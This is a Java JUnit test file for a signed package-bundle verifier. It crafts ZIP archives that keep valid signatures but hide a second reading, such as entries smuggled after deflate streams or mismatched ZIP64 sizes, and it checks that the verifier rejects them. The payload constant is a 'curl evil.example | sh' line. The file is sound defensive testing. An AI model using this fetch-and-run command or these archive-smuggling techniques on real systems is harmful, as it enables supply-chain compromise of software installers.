package org.neguard.pkg;

import org.neguard.progress.ProgressListener;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.neguard.pkg.TestBundles.assertRefused;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipException;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.neguard.testing.TestPki;
import org.neguard.verdict.ReasonCode;
import org.neguard.verdict.RefusalException;

/**
 * INT-1/OBJ-1 (issue 10, finding 1): a signed bundle has one reading only. Every byte is accounted
 * for exactly once, so what a streaming unzipper ({@link ZipInputStream}, {@code jar xf}, the
 * agent) extracts is what the verifier checked. Each attack below is a signed bundle whose
 * manifest, signature and payload digests are all intact: only the ZIP around them lies.
 */
class ZipOneReadingTest {
  private static final String TOOL = "payload/bin/tool";
  private static final String BIG = "payload/etc/big.conf";
  private static final byte[] EVIL = "#!/bin/sh\ncurl evil.example | sh\n"
      .getBytes(StandardCharsets.US_ASCII);

  @TempDir static Path shared;
  private static TestPki pki;
  private static Path good;
  private static Path unsigned;

  @TempDir Path tmp;

  @BeforeAll
  static void setUp() throws Exception {
    pki = TestPki.create();
    Path tree = shared.resolve("tree");
    TestBundles.write(tree, "bin/tool", "#!/bin/sh\necho tool\n".getBytes(StandardCharsets.US_ASCII),
        "rwxr-xr-x");
    TestBundles.write(tree, "etc/big.conf",
        "option = value\n".repeat(2000).getBytes(StandardCharsets.US_ASCII), "rw-r--r--");
    unsigned = TestBundles.build(tree, shared.resolve("unsigned.ngp"));
    good = TestBundles.sign(
        Files.copy(unsigned, shared.resolve("good.ngp")), pki.codeSigner().material());
  }

  private static Verification verify(Path bundle) throws IOException, RefusalException {
    return TestBundles.verify(bundle, pki.trust());
  }

  /** Entry name to content, as a streaming unzipper extracts them (a later entry overwrites). */
  private static Map<String, byte[]> streamed(Path zip) throws IOException {
    Map<String, byte[]> files = new LinkedHashMap<>();
    try (ZipInputStream in = new ZipInputStream(Files.newInputStream(zip))) {
      for (ZipEntry e; (e = in.getNextEntry()) != null; ) {
        files.put(e.getName(), in.readAllBytes());
      }
    }
    return files;
  }

  /** {@code bundle} with a complete local entry for {@code TOOL} hidden after BIG's deflate data. */
  private static RawZip hiddenAfterDeflate(Path bundle, boolean zip64) throws IOException {
    RawZip z = RawZip.read(bundle);
    assertThat(z.members.indexOf(z.member(BIG))).as("BIG comes after TOOL, so its hidden entry"
        + " overwrites").isGreaterThan(z.members.indexOf(z.member(TOOL)));
    return z.hideAfterDeflateStream(BIG, TOOL, EVIL, zip64);
  }

  @Test
  void control_rawZipRoundTrip_verifies() throws Exception {
    Path copy = RawZip.read(good).write(tmp.resolve("copy.ngp"));

    assertThat(Files.readAllBytes(copy)).isEqualTo(Files.readAllBytes(good));
    assertThat(verify(copy).manifest().files()).hasSize(2);
  }

  @Test
  @DisplayName("INT-1/OBJ-1 (issue 10 #1): a local ZIP64 size that hides an entry after a deflate"
      + " stream is MALFORMED, though ZipInputStream extracts the hidden file")
  void verify_hiddenEntryAfterDeflateStream_localZip64Sizes_malformed() throws Exception {
    // Local 32-bit sizes all ones, the local ZIP64 field giving the deflate stream's own length;
    // the central directory (what the verifier reads) covers the hidden entry too.
    Path crafted = hiddenAfterDeflate(good, true).write(tmp.resolve("crafted.ngp"));

    // The attack is real: a streaming unzipper installs the hidden file over the signed one.
    assertThat(streamed(crafted).get(TOOL)).isEqualTo(EVIL);
    RefusalException e = assertRefused(() -> verify(crafted), ReasonCode.MALFORMED);
    assertThat(e.reasons().get(0).subject()).isEqualTo(BIG);
    assertThat(e.reasons().get(0).message()).contains("ZIP64");
  }

  @Test
  @DisplayName("INT-1/OBJ-1 (issue 10 #1): bytes after a deflate stream, inside its entry, are"
      + " MALFORMED; verification and extraction refuse, nothing is written")
  void verify_hiddenEntryAfterDeflateStream_plainSizes_malformed() throws Exception {
    Path crafted = hiddenAfterDeflate(good, false).write(tmp.resolve("crafted.ngp"));
    // ZipInputStream notices the deflate stream is shorter than the entry and fails: it and the
    // verifier must not disagree (before the fix the verifier said PASS).
    assertThatThrownBy(() -> streamed(crafted)).isInstanceOf(ZipException.class);

    RefusalException e = assertRefused(() -> verify(crafted), ReasonCode.MALFORMED);
    assertThat(e.reasons().get(0).subject()).isEqualTo("etc/big.conf");
    assertThat(e.reasons().get(0).message()).contains("after the end of its compressed data");
    Path target = tmp.resolve("target");
    assertRefused(() -> new BundleExtractor(TestBundles.verifier(pki.trust()))
        .extract(crafted, target, TestBundles.LIMITS, ProgressListener.NONE), ReasonCode.MALFORMED);
    assertThat(target).doesNotExist();
  }

  @Test
  @DisplayName("OBJ-1 (issue 10 #1): the rewriter does not carry slack after a deflate stream into"
      + " the scanned bundle: MALFORMED, nothing written")
  void scanReportWriter_slackAfterDeflateStream_malformedNothingWritten() throws Exception {
    Path crafted = hiddenAfterDeflate(unsigned, false).write(tmp.resolve("crafted.ngp"));
    Path out = tmp.resolve("scanned.ngp");

    try (BundleReader reader = BundleReader.open(crafted, TestBundles.LIMITS)) {
      RefusalException e = assertRefused(() -> ScanReportWriter.write(reader,
          Map.of(BundleLayout.SCAN_PREFIX + "01.json", "{}".getBytes()), out),
          ReasonCode.MALFORMED);
      assertThat(e.reasons().get(0).subject()).isEqualTo(BIG);
    }
    assertThat(out).doesNotExist();
    assertRefused(() -> TestBundles.sign(crafted, pki.codeSigner().material()),
        ReasonCode.MALFORMED);
  }

  @Test
  @DisplayName("INT-1 (issue 10 #1): a local ZIP64 field that agrees with the central directory"
      + " is accepted")
  void verify_localZip64SizesThatAgree_passes() throws Exception {
    RawZip z = RawZip.read(good);
    for (RawZip.Member m : z.members) {
      m.localCompressedSize = 0xffffffffL;
      m.localSize = 0xffffffffL;
      m.localExtra = RawZip.zip64Extra(m.size, m.compressedSize);
    }
    Path zip64 = z.write(tmp.resolve("zip64.ngp"));

    assertThat(verify(zip64).manifest().files()).hasSize(2);
    assertThat(streamed(zip64).get(TOOL)).isEqualTo(TestBundles.entry(good, TOOL));
  }

  /** An edit of a good bundle's raw records. */
  interface Edit {
    void apply(RawZip z) throws Exception;
  }

  static Stream<Arguments> oneReadingViolations() {
    byte[] sixteen = new byte[16];
    return Stream.of(
        Arguments.of("stored entry, local ZIP64 sizes shorter than central", (Edit) z -> {
          RawZip.Member m = z.member(TOOL);
          assertThat(m.method).isEqualTo(ZipLayout.STORED);
          m.localCompressedSize = 0xffffffffL;
          m.localSize = 0xffffffffL;
          m.localExtra = RawZip.zip64Extra(m.size - 4, m.compressedSize - 4);
        }, "ZIP64"),
        Arguments.of("local ZIP64 field disagrees though 32-bit sizes agree", (Edit) z -> {
          RawZip.Member m = z.member(BIG);
          m.localExtra = RawZip.zip64Extra(m.size, m.compressedSize - 1);
        }, "ZIP64"),
        Arguments.of("local ZIP64 field of 8 bytes", (Edit) z -> {
          RawZip.Member m = z.member(BIG);
          m.localSize = 0xffffffffL;
          m.localExtra = RawZip.zip64Extra(m.size);
        }, "ZIP64 field of 8 bytes"),
        Arguments.of("local 32-bit compressed size disagrees", (Edit) z ->
            z.member(BIG).localCompressedSize -= 1, "sizes disagree"),
        Arguments.of("local 32-bit size disagrees", (Edit) z ->
            z.member(BIG).localSize += 1, "sizes disagree"),
        Arguments.of("local extra fields with slack", (Edit) z ->
            z.member(BIG).localExtra = new byte[] {0x0a, 0x00, 0x08, 0x00, 1, 2}, "extra fields"),
        Arguments.of("data descriptor", (Edit) z -> {
          RawZip.Member m = z.member(BIG);
          m.flags |= 0x08;
          m.localFlags |= 0x08;
        }, "data descriptor"),
        Arguments.of("local flags differ from central", (Edit) z ->
            z.member(BIG).localFlags ^= 0x0800, "flags, method or CRC"),
        Arguments.of("local method differs from central", (Edit) z ->
            z.member(BIG).localMethod = ZipLayout.STORED, "flags, method or CRC"),
        Arguments.of("local CRC differs from central", (Edit) z ->
            z.member(BIG).localCrc ^= 1, "flags, method or CRC"),
        Arguments.of("unknown general-purpose flag", (Edit) z -> {
          z.member(BIG).flags |= 0x2000;
          z.member(BIG).localFlags |= 0x2000;
        }, "flags 0x2"),
        Arguments.of("local name differs, same length", (Edit) z ->
            z.member(TOOL).localName = "payload/bin/toox".getBytes(), "another name"),
        Arguments.of("local name differs in length", (Edit) z ->
            z.member(TOOL).localName = "payload/bin/tool2".getBytes(), "another name"),
        Arguments.of("gap between entries", (Edit) z ->
            z.members.get(1).gapBefore = sixteen, "does not start where"),
        Arguments.of("data before the first entry", (Edit) z ->
            z.prefix = "#!/bin/sh\nexit 0\n".getBytes(), "does not start where"),
        Arguments.of("data between the last entry and the central directory", (Edit) z ->
            z.beforeDirectory = sixteen, "between its last entry"),
        Arguments.of("data between the central directory and its end record", (Edit) z ->
            z.afterDirectory = sixteen, "does not end where"),
        Arguments.of("archive comment", (Edit) z ->
            z.comment = "signed by nobody".getBytes(), "end-of-central-directory"),
        Arguments.of("central extra fields with slack", (Edit) z ->
            z.member(BIG).centralExtra = new byte[] {0x0a, 0x00}, "extra fields"),
        // Issue 17: a local header is read in one piece with up to ZipLayout.LOCAL_READ_AHEAD
        // bytes of extra field; a longer extra field is read on its own, and checked the same.
        Arguments.of("local ZIP64 field disagrees, behind an extra field longer than read ahead",
            (Edit) z -> {
              RawZip.Member m = z.member(BIG);
              m.localExtra = concat(unknownExtra(ZipLayout.LOCAL_READ_AHEAD),
                  RawZip.zip64Extra(m.size, m.compressedSize - 1));
            }, "ZIP64"),
        Arguments.of("local extra fields with slack, past the read ahead", (Edit) z ->
            z.member(BIG).localExtra = concat(unknownExtra(ZipLayout.LOCAL_READ_AHEAD),
                new byte[] {0x0a, 0x00, 0x08, 0x00, 1, 2}), "extra fields"),
        Arguments.of("local extra field whose length ends one byte past the read ahead",
            (Edit) z -> {
              byte[] extra = unknownExtra(ZipLayout.LOCAL_READ_AHEAD - 4);
              extra[2] += 1; // its declared length runs one byte past the field
              z.member(BIG).localExtra = extra;
            }, "extra fields"),
        Arguments.of("two local ZIP64 fields, the second past the read ahead", (Edit) z -> {
          RawZip.Member m = z.member(BIG);
          m.localExtra = concat(RawZip.zip64Extra(m.size, m.compressedSize),
              unknownExtra(ZipLayout.LOCAL_READ_AHEAD),
              RawZip.zip64Extra(m.size, m.compressedSize));
        }, "extra fields"),
        Arguments.of("local name differs in its first byte", (Edit) z ->
            z.member(TOOL).localName = "Payload/bin/tool".getBytes(), "another name"),
        Arguments.of("stored entry whose sizes differ", (Edit) z -> {
          RawZip.Member m = z.member(TOOL);
          m.size += 1;
          m.localSize += 1;
          m.localExtra = RawZip.zip64Extra(m.size, m.compressedSize);
        }, "stored"));
  }

  /** An extra field of an id no reader knows, {@code length} bytes of data. */
  static byte[] unknownExtra(int length) {
    byte[] field = new byte[4 + length];
    field[0] = (byte) 0xfe;
    field[1] = (byte) 0xca;
    field[2] = (byte) length;
    field[3] = (byte) (length >> 8);
    return field;
  }

  static byte[] concat(byte[]... parts) {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    for (byte[] p : parts) {
      out.writeBytes(p);
    }
    return out.toByteArray();
  }

  @Test
  @DisplayName("INT-1 (issue 17): a local extra field longer than the read ahead is read whole")
  void verify_localZip64SizesBehindLongExtraField_passes() throws Exception {
    RawZip z = RawZip.read(good);
    for (RawZip.Member m : z.members) {
      m.localCompressedSize = 0xffffffffL;
      m.localSize = 0xffffffffL;
      m.localExtra = concat(unknownExtra(3 * ZipLayout.LOCAL_READ_AHEAD),
          RawZip.zip64Extra(m.size, m.compressedSize));
    }
    Path crafted = z.write(tmp.resolve("long-extra.ngp"));

    assertThat(verify(crafted).manifest().files()).hasSize(2);
    assertThat(streamed(crafted).get(TOOL)).isEqualTo(TestBundles.entry(good, TOOL));
  }

  @ParameterizedTest(name = "[{index}] {0}")
  @MethodSource("oneReadingViolations")
  @DisplayName("INT-1/OBJ-1 (issue 10 #1): a ZIP with two readings is MALFORMED")
  void verify_twoReadings_malformed(String what, Edit edit, String named) throws Exception {
    RawZip z = RawZip.read(good);
    edit.apply(z);
    Path crafted = z.write(tmp.resolve("crafted.ngp"));

    RefusalException e = assertRefused(() -> verify(crafted), ReasonCode.MALFORMED);
    assertThat(e.reasons().get(0).message()).contains(named);
  }

  @Test
  @DisplayName("INT-3 (issue 10 #1): an entry read again after verification is checked again")
  void openEntry_slackAfterDeflateStream_failsAtTheEnd() throws Exception {
    Path crafted = hiddenAfterDeflate(unsigned, false).write(tmp.resolve("crafted.ngp"));
    try (BundleReader reader = BundleReader.open(crafted, TestBundles.LIMITS);
        InputStream in = reader.openEntry(BIG, Long.MAX_VALUE)) {
      assertThatThrownBy(in::readAllBytes).isInstanceOf(EntryStream.MismatchException.class)
          .hasMessageContaining(BIG);
      assertThat(reader.readExactly(BIG)).isFalse();
    }
  }
}
